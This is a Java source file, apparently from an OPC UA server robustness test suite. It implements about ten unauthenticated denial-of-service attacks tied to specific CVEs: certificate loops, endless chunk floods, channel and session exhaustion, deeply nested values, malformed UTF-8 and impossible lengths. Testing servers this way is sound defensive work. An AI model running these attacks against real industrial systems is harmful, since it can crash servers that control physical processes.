package io.venule.opcua;

import static io.venule.opcua.RawChannel.LARGEST;
import static io.venule.opcua.RawChannel.bytes;
import static io.venule.opcua.RawChannel.nodeId;
import static io.venule.opcua.RawChannel.requestHeader;

import java.io.IOException;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import org.eclipse.milo.opcua.stack.core.types.builtin.ByteString;

/**
 * Attacks on OPC UA servers that need no certificate, as chunks made by hand. The catalogue is Team82's, published with the weaknesses that each attack was found by; what is here is written anew from its
 * descriptions and OPC 10000-6. T-22.
 */
enum StrangersAttack {
    /** A certificate that a second one issued, which the first one issued. CVE-2022-37013. */
    CERTIFICATE_LOOP {
        @Override
        void once(Target target) throws IOException {
            try (var channel = new RawChannel(target.pump()).greet(target.pump())) {
                channel.openWith(
                        target.policy().bytesOrEmpty(),
                        target.loop().bytesOrEmpty(),
                        target.thumbprint().bytesOrEmpty(),
                        new byte[256]);
                channel.end();
            }
        }
    },
    /** Chunk upon chunk of a message of which the last never comes; then the attacker hangs up. CVE-2022-29864 and others. */
    CHUNKS_WITHOUT_END {
        @Override
        void once(Target target) throws IOException {
            for (int times = 0; times < 4; times++) {
                try (var channel =
                        new RawChannel(target.pump()).greet(target.pump()).open()) {
                    for (int i = 0; i < FEWER; i++) {
                        channel.send('C', RawChannel.filled(LARGEST - 100));
                    }
                }
                try (var channel = new RawChannel(target.pump()).greet(target.pump())) {
                    for (int i = 0; i < FEWER; i++) {
                        channel.partOfOpening();
                    }
                }
            }
        }
    },
    /** The same, until the pump hangs up. */
    TOO_MANY_CHUNKS {
        @Override
        void once(Target target) throws IOException {
            try (var channel =
                    new RawChannel(target.pump()).greet(target.pump()).open()) {
                for (int i = 0; i < 10 * FEWER; i++) {
                    channel.send('C', RawChannel.filled(LARGEST - 100));
                }
            } catch (IOException hungUp) {
                // As it should.
            }
        }
    },
    /** Channels that are opened and left. CVE-2023-32787. */
    MANY_CHANNELS {
        @Override
        void once(Target target) throws IOException {
            var channels = new ArrayList<RawChannel>();
            try {
                for (int i = 0; i < 200; i++) {
                    channels.add(
                            new RawChannel(target.pump()).greet(target.pump()).open());
                }
            } finally {
                for (var channel : channels) {
                    channel.close();
                }
            }
        }
    },
    /** A session that never was is closed, at times that are none. CVE-2023-31048. */
    CLOSED_AT_STRANGE_TIMES {
        @Override
        void once(Target target) throws IOException {
            for (var at : List.of(0L, -1L, 1L, Long.MIN_VALUE, Long.MAX_VALUE)) {
                ask(
                        target,
                        bytes().put(nodeId(CLOSE_SESSION))
                                .put(requestHeader(at))
                                .put((byte) 0));
            }
        }
    },
    /** A value in a value in a value, and the same with diagnostics. CVE-2022-25903, CVE-2021-27432, CVE-2023-3825. */
    NESTED {
        @Override
        void once(Target target) throws IOException {
            var value = new byte[] {(byte) (24 | 0x80), 1, 0, 0, 0};
            ask(target, write(value, 20_000, new byte[] {1, 0}));
            ask(target, write(new byte[] {24}, 60_000, new byte[] {1, 0}));
            ask(target, writeDiagnostics(60_000));
            ask(target, write(value, 300_000, new byte[] {1, 0}));
        }
    },
    /** Texts that are no UTF-8, in the first word and in a request. CVE-2022-2825, CVE-2022-2848. */
    MALFORMED_UTF8 {
        @Override
        void once(Target target) throws IOException {
            var bad = new byte[] {'o', 'p', 'c', (byte) 0xC0, (byte) 0x80, (byte) 0xFF, (byte) 0xF8, (byte) 0xED};
            try (var channel = new RawChannel(target.pump())) {
                channel.hello(bad);
                channel.end();
            }
            ask(
                    target,
                    bytes().put(nodeId(GET_ENDPOINTS))
                            .put(requestHeader(0))
                            .putInt(bad.length)
                            .put(bad)
                            .putInt(-1)
                            .putInt(-1));
        }
    },
    /** Lengths that nothing has. */
    LENGTHS {
        @Override
        void once(Target target) throws IOException {
            for (int length : new int[] {-2, Integer.MIN_VALUE, Integer.MAX_VALUE, 1 << 28}) {
                ask(
                        target,
                        bytes().put(nodeId(GET_ENDPOINTS)).put(requestHeader(0)).putInt(length));
                try (var channel = new RawChannel(target.pump())) {
                    channel.chunk(
                            "HELF", bytes().putInt(0).putLong(0).putLong(0).putInt(length));
                    channel.end();
                }
                try (var channel = new RawChannel(target.pump()).greet(target.pump())) {
                    channel.chunk("OPNF", bytes().putInt(0).putInt(length));
                    channel.end();
                }
            }
        }
    },
    /** Very many requests at once, and no answer is read. CVE-2022-30551. */
    ASKED_AND_NOT_READ {
        @Override
        void once(Target target) throws IOException {
            try (var channel =
                    new RawChannel(target.pump()).greet(target.pump()).open()) {
                for (int i = 0; i < 2_000; i++) {
                    channel.send(
                            'F',
                            bytes().put(nodeId(GET_ENDPOINTS))
                                    .put(requestHeader(0))
                                    .putInt(-1)
                                    .putInt(-1)
                                    .putInt(-1));
                }
            }
        }
    },
    /** Sessions without a certificate, none of them ever used. */
    SESSIONS {
        @Override
        void once(Target target) throws IOException {
            try (var channel =
                    new RawChannel(target.pump()).greet(target.pump()).open()) {
                for (int i = 0; i < 20; i++) {
                    channel.send('F', createSession());
                    channel.read();
                }
            }
        }
    };

    private static final int FEWER = 62;
    private static final int CLOSE_SESSION = 473;
    private static final int GET_ENDPOINTS = 428;
    private static final int WRITE = 673;
    private static final int CREATE_SESSION = 461;

    /**
     * What is attacked.
     *
     * @param loop two certificates that issued each other
     * @param thumbprint of the pump's certificate
     */
    record Target(URI pump, ByteString policy, ByteString loop, ByteString thumbprint) {}

    /** The pump may hang up in the middle, which is an {@link IOException}. */
    abstract void once(Target target) throws IOException;

    private static void ask(Target target, ByteBuffer body) throws IOException {
        try (var channel = new RawChannel(target.pump()).greet(target.pump()).open()) {
            channel.sendAll(body);
            channel.read();
        } catch (IOException hungUp) {
            // Each is a way to say no.
        }
    }

    /** A request to write one value that is nested so deep. */
    private static ByteBuffer write(byte[] level, int depth, byte[] innermost) {
        var written = ByteBuffer.allocate(1_000 + level.length * depth).order(ByteOrder.LITTLE_ENDIAN);
        written.put(nodeId(WRITE)).put(requestHeader(0)).putInt(1);
        written.put(new byte[] {0, 0}).putInt(13).putInt(-1).put((byte) 1);
        for (int i = 0; i < depth; i++) {
            written.put(level);
        }
        return written.put(innermost);
    }

    /** The same, of diagnostics that have inner diagnostics. */
    private static ByteBuffer writeDiagnostics(int depth) {
        var written = ByteBuffer.allocate(1_000 + depth).order(ByteOrder.LITTLE_ENDIAN);
        written.put(nodeId(WRITE)).put(requestHeader(0)).putInt(1);
        written.put(new byte[] {0, 0}).putInt(13).putInt(-1).put((byte) 1).put((byte) 25);
        for (int i = 0; i < depth; i++) {
            written.put((byte) 0x40);
        }
        return written.put((byte) 0);
    }

    private static ByteBuffer createSession() {
        var name = "stranger".getBytes(StandardCharsets.US_ASCII);
        return bytes().put(nodeId(CREATE_SESSION))
                .put(requestHeader(0))
                .putInt(-1)
                .putInt(-1)
                .put((byte) 0)
                .putInt(1)
                .putInt(-1)
                .putInt(-1)
                .putInt(-1)
                .putInt(-1)
                .putInt(-1)
                .putInt(name.length)
                .put(name)
                .putInt(-1)
                .putInt(-1)
                .putDouble(120_000)
                .putInt(0);
    }
}
